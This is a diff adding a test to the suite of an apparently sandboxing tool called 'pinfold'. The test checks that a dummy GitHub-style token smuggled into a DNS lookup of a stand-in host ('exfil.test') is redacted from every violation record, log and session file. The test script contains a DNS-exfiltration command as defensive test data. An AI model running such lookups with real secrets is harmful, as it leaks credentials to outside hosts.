@@ -124,6 +124,32 @@ describe.each(people)('as $label', (person) => {
     expect(statSync(session).mode & 0o777).toBe(0o700);
   });
 
+  test('L-23: a secret in the name of a host is in no record', async () => {
+    const secret = 'ghp_a1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6';
+    const script = 'getent hosts "$0"; getent hosts plain.exfil.test; exit 0';
+    const ran = await world.inside(['sh', '-c', script, `${secret}.exfil.test`], ['--json']);
+    const outcome = JSON.parse(ran.stderr.trimEnd().split('\n').at(-1)!);
+    const hosts = outcome.violations.map(({ subject }: { subject: { host: string } }) => subject.host);
+    // The control: a name without a secret is told as it is.
+    expect(hosts).toEqual(['[secret].exfil.test', 'plain.exfil.test']);
+    const asked = [
+      ['violations', '--json'],
+      ['why', 'b1'],
+      ['log', '--json'],
+    ];
+    const [listed, explained, log] = await Promise.all(
+      asked.map((args) => world.pinfold(args[0] === 'log' ? args : [...args, '--session', outcome.session])),
+    );
+    expect(explained!.stdout).toContain('its name holds a secret, which is not kept');
+    const directory = join(world.home, '.local/state/pinfold/sessions', outcome.session);
+    const kept = readdirSync(directory, { recursive: true, withFileTypes: true })
+      .filter((entry) => entry.isFile())
+      .map(({ parentPath, name }) => readFileSync(join(parentPath, name), 'utf8'));
+    expect(kept.length).toBeGreaterThan(3);
+    for (const text of [...kept, ran.stderr, listed!.stdout, explained!.stdout, log!.stdout])
+      expect(text).not.toContain(secret);
+  });
+
   test('L-24: a secret on a command line is in no record, neither of the session nor of a refusal', async () => {
     const secret = 'hunter2-of-the-test';
     const script = 'echo x > .mcp.json; until [ -s "$PINFOLD_EVENTS" ]; do :; done';
